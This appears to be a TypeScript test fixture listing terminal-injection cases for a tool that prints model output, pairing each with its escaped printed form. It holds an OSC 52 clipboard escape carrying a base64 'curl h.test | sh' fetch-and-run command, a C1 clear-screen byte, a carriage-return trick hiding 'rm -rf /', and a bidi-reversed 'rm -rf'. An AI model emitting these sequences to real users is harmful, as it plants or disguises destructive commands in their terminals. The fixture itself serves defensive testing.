import type { Attack } from "./attack";

/** What a model says, or a model file is called, where it is printed in a terminal (`inhouse chat`, `inhouse models`). */
export interface TerminalAttack extends Attack {
  /** In the pieces in which it comes. */
  readonly says: readonly string[];
  readonly printed: string;
}

export const terminalAttacks: readonly TerminalAttack[] = [
  {
    name: "an escape that fills the clipboard",
    wants: "a command in the clipboard that the user pastes next",
    says: ["Fine.\u001b]52;c;", "Y3VybCBoLnRlc3QgfCBzaA==\u0007"],
    printed: "Fine.<U+001B>]52;c;Y3VybCBoLnRlc3QgfCBzaA==<U+0007>",
  },
  {
    name: "an escape in one character",
    wants: "a screen that is cleared, where the terminal knows such characters",
    says: ["a\u009b2Jb"],
    printed: "a<U+009B>2Jb",
  },
  {
    name: "a line that is written over",
    wants: "another answer than the one that was given",
    says: ["rm -rf /\r", "ls      \n"],
    printed: "rm -rf /ls      \n",
  },
  {
    name: "a line in another order",
    wants: "a command that looks harmless until it is pasted",
    says: ["echo \u202efr- mr\u202c"],
    printed: "echo <U+202E>fr- mr<U+202C>",
  },
];
